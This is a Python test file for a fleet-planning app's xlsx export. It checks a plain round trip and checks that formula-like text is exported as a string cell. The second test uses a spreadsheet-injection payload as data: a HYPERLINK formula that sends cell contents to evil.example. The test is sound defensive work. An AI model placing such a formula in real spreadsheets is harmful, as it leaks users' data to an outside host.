"""xlsx export round trip."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from fleetplan.web.export import rows_to_xlsx


def test_rows_round_trip_through_openpyxl() -> None:
    content = rows_to_xlsx("Køretøjer", ["Id", "Km"], [["V1", 12.5], ["V2", None]])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "Køretøjer"
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["Id", "Km"],
        ["V1", 12.5],
        ["V2", None],
    ]


def test_formula_like_text_is_exported_as_text() -> None:
    """A location named like a formula is a string cell (type "s"), never a
    formula, and reads back as the same text (issue 13, item 5)."""
    payload = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
    content = rows_to_xlsx("Lokationer", ["Navn", "Km"], [[payload, -3], ["@x", 1]])
    sheet = load_workbook(io.BytesIO(content), data_only=True).active
    cells = [list(row) for row in sheet.iter_rows(min_row=2)]
    assert [[c.value for c in row] for row in cells] == [[payload, -3], ["@x", 1]]
    assert [[c.data_type for c in row] for row in cells] == [["s", "n"], ["s", "n"]]
